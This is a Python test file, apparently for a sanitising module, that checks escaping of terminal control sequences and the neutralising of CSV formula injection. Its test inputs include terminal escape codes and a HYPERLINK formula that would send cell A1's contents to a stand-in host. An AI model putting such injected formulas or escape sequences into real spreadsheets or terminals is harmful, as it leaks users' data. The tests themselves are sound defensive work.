"""escape_controls and csv_cell: what a terminal and a spreadsheet get."""

from __future__ import annotations

import pytest

from edi_j0256.safe_text import csv_cell, escape_controls


@pytest.mark.parametrize(("raw", "shown"), [
    ("JW\x1b[2J", "JW\\x1b[2J"),
    ("a\x00b", "a\\x00b"),
    ("bell\x07", "bell\\x07"),
    ("csi\x9b31m", "csi\\x9b31m"),
    ("del\x7f", "del\\x7f"),
    ("cr\rlf\n", "cr\\rlf\\n"),
    ("tab\t", "tab\\t"),
    ("Zürich 東京", "Zürich 東京"),
    ("", ""),
])
def test_escape_controls(raw, shown):
    assert escape_controls(raw) == shown


def test_escape_controls_can_keep_newlines():
    assert escape_controls("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"


@pytest.mark.parametrize(("raw", "cell"), [
    ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
    ("+1", "'+1"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tX", "'\tX"),
    ("\rX", "'\rX"), ("-12.50", "-12.50"), ("-3", "-3"), ("12", "12"), ("-.5", "-.5"),
    ("J0256", "J0256"), ("", ""), ("-", "'-"), ("+", "'+"), ("1-2", "1-2"),
])
def test_csv_cell(raw, cell):
    assert csv_cell(raw) == cell
